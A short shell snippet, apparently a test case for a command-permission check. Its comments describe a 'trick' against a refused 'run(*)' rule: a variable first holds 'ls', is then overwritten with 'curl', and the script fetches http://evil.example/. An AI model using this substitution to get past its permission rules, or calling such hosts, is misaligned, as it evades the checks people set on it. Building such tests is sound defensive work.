# Trick: a harmless program is replaced before the use.
# Refused: run(*)
tool=ls
printf -v tool '%s' curl
$tool http://evil.example/
